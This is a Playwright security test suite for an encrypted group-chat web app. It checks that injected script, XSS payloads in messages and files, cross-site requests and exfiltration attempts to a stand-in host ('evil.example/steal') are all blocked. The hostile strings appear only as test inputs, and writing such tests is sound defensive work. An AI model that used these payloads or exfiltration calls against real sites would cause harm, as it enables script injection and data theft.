/** What other sites, script on the page, messages and files can make of the page: nothing (attacks W). */
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { expect, type Page, test } from 'playwright/test';
import { ask, bot, must } from './support/bots.ts';
import { heapText } from './support/heap.ts';
import {
  approve,
  askToJoin,
  foundGroup,
  openPerson,
  openSection,
  openTalk,
  type Person,
  reads,
  say,
} from './support/people.ts';
import { type Needle, scan, textNeedle } from './support/scan.ts';
import { secretsOf } from './support/secrets.ts';
import { type RunningServer, startServer } from './support/server.ts';

const GROUP = 'Harbour garden';
const EVIL = 'https://evil.example';

let server: RunningServer;
test.beforeEach(async () => {
  server = await startServer({ LIMIT_MESSAGE_BURST: '1000' });
});
test.afterEach(() => server.close());

/** What the page asked of anybody but its own server. */
function watchForeign(page: Page): string[] {
  const foreign: string[] = [];
  page.context().on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (['http:', 'https:', 'ws:', 'wss:'].includes(protocol) && origin !== server.address)
      foreign.push(request.url());
  });
  return foreign;
}

interface Site {
  readonly address: string;
  /** What was asked of it, whoever asked. */
  readonly asked: readonly string[];
  readonly site: Server;
}

/** Another site, with whatever page the test wants there. */
async function openSite(html: string): Promise<Site> {
  const asked: string[] = [];
  const site = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('Content-Type', 'text/html');
    response.end(html);
  });
  site.listen(0, '127.0.0.1');
  await once(site, 'listening');
  const place = site.address();
  if (place === null || typeof place === 'string') throw new Error('no port');
  return { address: `http://127.0.0.1:${String(place.port)}`, asked, site };
}

/** Each act runs as script of the page, outside of any tool's leave; answers what it threw, and the policies that spoke. */
async function asPageScript(
  page: Page,
  elsewhere: string,
): Promise<{
  readonly outcomes: Readonly<Record<string, string>>;
  readonly violated: readonly string[];
  readonly ran: readonly string[];
}> {
  return page.evaluate(async (evil) => {
    const violated: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      violated.push(event.effectiveDirective),
    );
    const hits: string[] = [];
    Reflect.set(window, 'hit', (what: string) => hits.push(what));
    const outcomes: Record<string, string> = {};
    const later = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 50));
    const attempt = (what: string, act: () => unknown): Promise<void> =>
      new Promise((resolve) => {
        setTimeout(() => {
          void (async () => {
            try {
              await act();
              outcomes[what] = 'done';
            } catch (error) {
              outcomes[what] = error instanceof Error ? error.name : 'thrown';
            }
            resolve();
          })();
        });
      });
    const element = <K extends keyof HTMLElementTagNameMap>(name: K): HTMLElementTagNameMap[K] =>
      document.createElement(name);
    const sink = (target: object, name: string, value: string): void => {
      Reflect.set(target, name, value);
    };
    await attempt('inline script', () => {
      const script = element('script');
      script.append(document.createTextNode('hit("inline script")'));
      document.body.append(script);
    });
    await attempt('script text', () => sink(element('script'), 'text', 'hit("text")'));
    await attempt('handler', () => {
      const button = element('button');
      button.setAttribute('onclick', 'hit("handler")');
      document.body.append(button);
      button.click();
      button.remove();
    });
    await attempt('eval', () =>
      (Reflect.get(window, 'ev' + 'al') as (text: string) => void)('hit("eval")'),
    );
    await attempt('Function', () =>
      (Reflect.construct(Function, ['hit("Function")']) as () => void)(),
    );
    await attempt('timer text', () =>
      (setTimeout as unknown as (text: string) => void)('hit("timer")'),
    );
    const dataModule: string = 'data:text/javascript,hit("data")';
    await attempt('data module', () => import(dataModule));
    await attempt(
      'blob module',
      () => import(URL.createObjectURL(new Blob(['hit("blob")'], { type: 'text/javascript' }))),
    );
    await attempt('foreign module', () => import(`${evil}/x.js`));
    await attempt('foreign fetch', () => fetch(`${evil}/steal`));
    await attempt('foreign beacon', () => navigator.sendBeacon(`${evil}/beacon`, 'x'));
    await attempt('foreign image', async () => {
      const image = new Image();
      image.src = `${evil}/a.png`;
      await image.decode();
    });
    await attempt('innerHTML', () =>
      sink(element('div'), 'innerHTML', '<img src=x onerror=hit(1)>'),
    );
    await attempt('outerHTML', () => {
      const holder = element('div');
      holder.append(element('p'));
      if (holder.firstElementChild !== null) sink(holder.firstElementChild, 'outerHTML', '<b>');
    });
    await attempt('srcdoc', () => sink(element('iframe'), 'srcdoc', '<script>hit(1)</script>'));
    await attempt('document.write', () => document.write('<b>'));
    await attempt('worker of a string', () => new Worker('/assets/main.js'));
    await attempt('worker of a blob', () => new Worker(URL.createObjectURL(new Blob(['']))));
    await attempt('script address', () => sink(element('script'), 'src', '/theme.js'));
    for (const name of ['evil', 'default', 'conclave'])
      await attempt(`policy ${name}`, () =>
        window.trustedTypes?.createPolicy(name, { createScriptURL: (text) => text }),
      );
    await attempt('frame', async () => {
      const frame = element('iframe');
      frame.src = '/';
      document.body.append(frame);
      await later();
      const inside = frame.contentDocument?.getElementById('root') ?? null;
      frame.remove();
      if (inside === null) throw new Error('not shown');
    });
    await later();
    return { outcomes, violated: [...new Set(violated)].toSorted(), ran: hits };
  }, elsewhere);
}

test('P088 P089: script in the page that is not the page’s own does not run, and no string becomes code', async ({
  browser,
}) => {
  const alice = await openPerson(browser, server, 'Alice');
  await foundGroup(alice, GROUP, '');
  const { address, asked, site } = await openSite('hit("foreign")');
  const { outcomes, violated, ran } = await asPageScript(alice.page, address);
  expect(ran).toEqual([]);
  expect(asked).toEqual([]);
  // It could have been asked: the list is no empty promise.
  expect((await fetch(`${address}/here`)).ok).toBe(true);
  expect(asked).toEqual(['/here']);
  site.close();
  const refused = Object.entries(outcomes).filter(([, outcome]) => outcome === 'done');
  // These two are not refused with an error: they do nothing, and the policy says so.
  const silent = ['inline script', 'handler', 'timer text', 'foreign beacon'];
  expect(refused.map(([what]) => what).filter((what) => !silent.includes(what))).toEqual([]);
  for (const what of ['innerHTML', 'outerHTML', 'srcdoc', 'document.write', 'script text'])
    expect(outcomes[what], what).toBe('TypeError');
  for (const what of ['worker of a string', 'worker of a blob', 'script address'])
    expect(outcomes[what], what).toBe('TypeError');
  for (const name of ['evil', 'default', 'conclave'])
    expect(outcomes[`policy ${name}`], name).toBe('TypeError');
  expect(outcomes['eval']).toBe('EvalError');
  for (const directive of ['connect-src', 'img-src', 'require-trusted-types-for', 'trusted-types'])
    expect(violated).toContain(directive);
  expect(violated.some((directive) => directive.startsWith('script-src'))).toBe(true);
  // The page itself still works, and nothing of its own is against the policy.
  await say(alice, GROUP, 'still here');
  await reads(alice, 'still here');
});

test('P091 P092 P093: another site cannot ask, frame or talk to the page of somebody who is logged in', async ({
  browser,
}) => {
  const alice = await openPerson(browser, server, 'Alice');
  await foundGroup(alice, GROUP, '');
  expect(await alice.context.cookies()).toEqual([]);
  const lines: string[] = [];
  alice.page.on('console', (message) => lines.push(message.text()));
  alice.page.on('pageerror', (error) => lines.push(error.message));
  const { address, site } = await openSite(
    `<!doctype html><iframe name="frame" src="${server.address}/"></iframe>
     <form method="post" action="${server.address}/session"><input name="a" value="b"></form>`,
  );
  try {
    const evil = await alice.context.newPage();
    await evil.goto(address);
    const got = await evil.evaluate(async (victim) => {
      const outcome = (asked: Promise<Response>): Promise<string> =>
        asked.then(
          (response) => `${response.type} ${String(response.status)}`,
          () => 'refused',
        );
      const socket = await new Promise<string>((resolve) => {
        const made = new WebSocket(`${victim.replace('http', 'ws')}/session`);
        made.addEventListener('open', () => resolve('open'));
        made.addEventListener('close', (event) => resolve(`closed ${String(event.code)}`));
      });
      return {
        socket,
        read: await outcome(fetch(`${victim}/about.json`)),
        withCookies: await outcome(fetch(`${victim}/about.json`, { credentials: 'include' })),
        blind: await outcome(fetch(`${victim}/`, { mode: 'no-cors' })),
        post: await outcome(fetch(`${victim}/session`, { method: 'POST', body: 'x' })),
      };
    }, server.address);
    expect(got).toEqual({
      socket: 'closed 1006',
      read: 'refused',
      withCookies: 'refused',
      // Cross-Origin-Resource-Policy: not even the empty answer is handed over.
      blind: 'refused',
      post: 'refused',
    });
    const frame = evil.frame({ name: 'frame' });
    expect(frame?.url()).toBe('chrome-error://chromewebdata/');

    // A window the other site opens is cut loose from it: nothing can be posted into it.
    const opened = evil.context().waitForEvent('page');
    await evil.evaluate((victim) => {
      Reflect.set(window, 'victim', window.open(victim));
    }, server.address);
    const victim = await opened;
    await expect(victim.getByRole('link', { name: new RegExp(GROUP, 'u') }).first()).toBeVisible();
    expect(await victim.evaluate(() => window.opener as unknown)).toBeNull();
    await expect
      .poll(() => evil.evaluate(() => (Reflect.get(window, 'victim') as Window).closed))
      .toBe(true);
    await victim.close();

    const posted = evil.waitForResponse(`${server.address}/session`);
    await evil.evaluate(() => document.querySelector('form')?.submit());
    expect((await posted).status()).toBe(405);
    await evil.close();
  } finally {
    site.close();
  }
  await say(alice, GROUP, 'nothing happened');
  await reads(alice, 'nothing happened');
  expect(lines).toEqual([]);
});

test('P093: nobody on the page listens for messages to its window', async ({ browser }) => {
  const context = await browser.newContext();
  await context.addInitScript(() => {
    const heard: string[] = [];
    Reflect.set(window, 'heard', heard);
    const listen = window.addEventListener.bind(window);
    Reflect.set(window, 'addEventListener', (...args: Parameters<typeof listen>) => {
      heard.push(args[0]);
      listen(...args);
    });
  });
  const page = await context.newPage();
  await page.goto(server.address);
  await expect(page.getByLabel('Your name')).toBeVisible();
  const heard = await page.evaluate(() => Reflect.get(window, 'heard') as string[]);
  expect(heard.length).toBeGreaterThan(0);
  // React schedules its work over a channel of its own, not over the window.
  expect(heard).not.toContain('message');
  expect(await page.evaluate(() => window.onmessage)).toBeNull();
  await context.close();
});

async function admitted(alice: Person, link: string, name: string) {
  const client = await bot(server, name);
  await ask(client, link, '');
  await openSection(alice, 'Requests');
  await alice.page.getByRole('button', { name: `Request of ${name}` }).click();
  await alice.page.getByRole('button', { name: 'Approve', exact: true }).click();
  await expect.poll(async () => (await client.groups())[0]?.name).toBe(GROUP);
  const gid = (await client.groups())[0]?.gid;
  if (gid === undefined) throw new Error('a member');
  await openTalk(alice, GROUP);
  return { client, gid };
}

test('P094 P095: nothing a message or a file brings is fetched, drawn as a page, or leads to a local or made-up address', async ({
  browser,
}) => {
  const alice = await openPerson(browser, server, 'Alice');
  const { page } = alice;
  const link = await foundGroup(alice, GROUP, '');
  const mallory = await admitted(alice, link, 'Mallory');
  const foreign = watchForeign(page);
  const texts = [
    `![seen](${EVIL}/seen.png)`,
    `<img src="${EVIL}/tag.png">`,
    `[files](file:///etc/passwd) file:///etc/passwd`,
    `[data](data:text/html,<script>1</script>) data:text/html,x`,
    `[script](javascript:alert(1)) javascript:alert(1)`,
    `[blob](blob:${server.address}/1) vbscript:x`,
    `<iframe src="${EVIL}"></iframe><svg onload=alert(1)>`,
    `[plain](${EVIL}/page) the end`,
  ];
  for (const text of texts) must(await mallory.client.sendMessage(mallory.gid, text));
  await expect(page.getByRole('article').getByText('the end')).toBeVisible();
  const drawn = await page.getByRole('article').evaluateAll((articles) => ({
    parts: articles.flatMap((article) =>
      [...article.querySelectorAll('img, iframe, object, embed, video, audio, script, link')].map(
        (part) => part.outerHTML,
      ),
    ),
    links: articles.flatMap((article) =>
      [...article.querySelectorAll('a')].map((anchor) => [anchor.protocol, anchor.rel]),
    ),
  }));
  expect(drawn.parts).toEqual([]);
  for (const [protocol, rel] of drawn.links) {
    expect(['http:', 'https:']).toContain(protocol);
    expect(rel).toContain('noreferrer');
  }
  expect(foreign).toEqual([]);

  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`;
  const files = [
    { name: 'plan.svg', mimeType: 'image/svg+xml', text: svg },
    { name: 'page.html', mimeType: 'text/html', text: '<script>alert(3)</script>' },
    { name: 'paper.pdf', mimeType: 'application/pdf', text: '%PDF-1.7 alert(4)' },
  ];
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  for (const { name, mimeType, text } of files) {
    await page
      .locator('input[type=file]')
      .setInputFiles([{ name, mimeType, buffer: Buffer.from(text) }]);
    await page.getByRole('button', { name: 'Send', exact: true }).click();
    const article = page.getByRole('article').filter({ hasText: name });
    const save = article.getByRole('button', { name: `Save ${name}` });
    await expect(save).toBeVisible();
    expect(await article.locator('img, iframe, object, embed').count()).toBe(0);
    expect(await article.getByRole('button', { name: /^Look at/u }).count()).toBe(0);
    const coming = page.waitForEvent('download');
    await save.click();
    expect((await coming).suggestedFilename()).toBe(name);
  }
  expect(page.context().pages()).toHaveLength(1);
  expect(dialogs).toEqual([]);
  expect(alice.complaints).toEqual([]);
  await mallory.client.close();
});

test('P096: no secret is in the document, the memory of the page, its storage, its caches, its address or its console', async ({
  browser,
}) => {
  test.setTimeout(120_000);
  const alice = await openPerson(browser, server, 'Alice');
  const link = await foundGroup(alice, GROUP, '');
  const bob = await openPerson(browser, server, 'Bob');
  const lines: string[] = [];
  bob.context.on('console', (message) => lines.push(message.text()));
  await approve(alice, bob, GROUP, await askToJoin(bob, link, GROUP, 'hello'));
  await openTalk(bob, GROUP);
  await say(bob, GROUP, 'a word that may be seen');
  await reads(alice, 'a word that may be seen');
  // How it came here may linger in memory until the page is opened anew.
  await bob.page.goto(server.address);
  await openTalk(bob, GROUP);
  await reads(bob, 'a word that may be seen');
  const { page } = bob;
  const { secrets, records } = await secretsOf(page);
  expect(records).toBeGreaterThan(5);
  expect(secrets.length).toBeGreaterThan(3);
  // What the test itself took out is left behind with the page that gave it.
  await page.reload();
  await reads(bob, 'a word that may be seen');
  const held = await page.evaluate(async () => {
    const cached: string[] = [];
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys())
        cached.push(request.url, (await (await cache.match(request))?.text()) ?? '');
    }
    const databases = (await indexedDB.databases()).map(({ name }) => name);
    return {
      document: document.documentElement.outerHTML,
      storage: JSON.stringify([{ ...localStorage }, { ...sessionStorage }]),
      cookies: document.cookie,
      address: JSON.stringify([location.href, document.referrer, history.state]),
      cached: cached.join('\n'),
      databases,
      globals: Object.getOwnPropertyNames(window).join('\n'),
    };
  });
  const places = [
    ...Object.entries(held).map(([where, what]) => ({
      where,
      bytes: Buffer.from(typeof what === 'string' ? what : JSON.stringify(what)),
    })),
    { where: 'console', bytes: Buffer.from(lines.join('\n')) },
    { where: 'memory', bytes: Buffer.from(await heapText(page)) },
  ];
  const needles: Needle[] = secrets.map((bytes, i) => ({ what: `secret ${String(i)}`, bytes }));
  expect(scan(places, needles)).toEqual([]);
  // The search must be able to find: what is shown is in the document and in memory.
  const shown = scan(places, [textNeedle('a word that may be seen')]);
  expect(shown.some((found) => found.endsWith('in document'))).toBe(true);
  expect(shown.some((found) => found.endsWith('in memory'))).toBe(true);
  expect(shown.some((found) => found.endsWith('in storage'))).toBe(false);
});

test('P097: the worker does what the page may ask for and nothing else: no call signs, seals or hands out bytes', async ({
  browser,
}) => {
  const context = await browser.newContext();
  await context.addInitScript(() => {
    const Inner = window.Worker;
    Reflect.set(
      window,
      'Worker',
      new Proxy(Inner, {
        construct(target, args: ConstructorParameters<typeof Worker>) {
          const worker: unknown = Reflect.construct(target, args);
          Reflect.set(window, 'engineWorker', worker);
          return worker as Worker;
        },
      }),
    );
  });
  const page = await context.newPage();
  await page.goto(server.address);
  await expect(page.getByLabel('Your name')).toBeVisible();
  const answers = await page.evaluate(async () => {
    const worker = Reflect.get(window, 'engineWorker') as Worker;
    const names = [
      ...['sign', 'seal', 'open', 'decrypt', 'identity', 'keys', 'records', 'session', 'call'],
      ...['constructor', '__proto__', 'toString', 'hasOwnProperty', 'listen', 'close', 'then'],
      ...['account.constructor', '', 'vault', 'export', 'read', 'write'],
    ];
    const asked = names.map(
      (name, i) =>
        new Promise<string>((resolve) => {
          const id = 9_000_000 + i;
          worker.addEventListener('message', ({ data }: MessageEvent<unknown>) => {
            const answer = data as { readonly id?: number; readonly kind?: string };
            if (answer.id === id) resolve(`${name}: ${answer.kind ?? ''}`);
          });
          worker.postMessage({ kind: 'call', id, name, args: [new Uint8Array(64)] });
        }),
    );
    const known = new Promise<string>((resolve) => {
      worker.addEventListener('message', ({ data }: MessageEvent<unknown>) => {
        const answer = data as { readonly id?: number; readonly kind?: string };
        if (answer.id === 9_100_000) resolve(answer.kind ?? '');
      });
      worker.postMessage({ kind: 'call', id: 9_100_000, name: 'account', args: [] });
    });
    return { asked: await Promise.all(asked), known: await known };
  });
  expect(answers.asked.filter((answer) => !answer.endsWith(': broken'))).toEqual([]);
  expect(answers.asked.length).toBeGreaterThan(20);
  expect(answers.known).toBe('answer');
  await context.close();
});

test('P099 P100: where WebAssembly is not allowed in the worker, the page says that it cannot run, and nothing begins', async ({
  browser,
}) => {
  const context = await browser.newContext({ serviceWorkers: 'block' });
  const page = await context.newPage();
  const sockets: string[] = [];
  page.on('websocket', (socket) => sockets.push(socket.url()));
  const policies: string[] = [];
  await page.route(/\/assets\/worker-[^/]*\.js$/u, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    const policy = headers['content-security-policy'] ?? '';
    policies.push(policy);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['cross-origin-resource-policy']).toBe('same-origin');
    await route.fulfill({
      response,
      headers: {
        ...headers,
        'content-security-policy': policy.replace(" 'wasm-unsafe-eval'", ''),
      },
    });
  });
  await page.goto(server.address);
  await expect(page.getByRole('alert')).toContainText('This browser does not run the encryption', {
    timeout: 20_000,
  });
  // The page's own policy is of the same kind: what is forbidden still validates, so validating would prove nothing.
  const here = await page.evaluate(
    () =>
      new Promise((resolve) => {
        setTimeout(() => {
          const empty = new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]);
          try {
            resolve([
              WebAssembly.validate(empty),
              new WebAssembly.Module(empty) instanceof WebAssembly.Module,
            ]);
          } catch {
            resolve([WebAssembly.validate(empty), false]);
          }
        });
      }),
  );
  expect(here).toEqual([true, false]);
  expect(policies.length).toBeGreaterThan(0);
  for (const policy of policies)
    expect(policy).toBe(
      "default-src 'none'; connect-src 'self'; script-src 'self' 'wasm-unsafe-eval'",
    );
  expect(await page.getByLabel('Your name').count()).toBe(0);
  expect(sockets).toEqual([]);
  await context.close();
});

test('where a part of the page cannot be read, the page says so and goes on when it is loaded again, with the link it was opened with', async ({
  browser,
}) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const parts = /\/assets\/page-[^/]*\.js$/u;
  await page.route(parts, (route) => route.abort());
  await page.goto(`${server.address}/join#j1notALink`);
  await expect(page.getByRole('main')).toContainText('Nothing of yours is lost');
  await expect.poll(() => page.workers().length).toBe(0);
  expect(new URL(page.url()).hash).toBe('#j1notALink');

  await page.unroute(parts);
  await page.getByRole('button', { name: 'Load again' }).click();
  await expect(page.getByText('This link is damaged')).toBeVisible();
  expect(new URL(page.url()).hash).toBe('');
  await context.close();
});
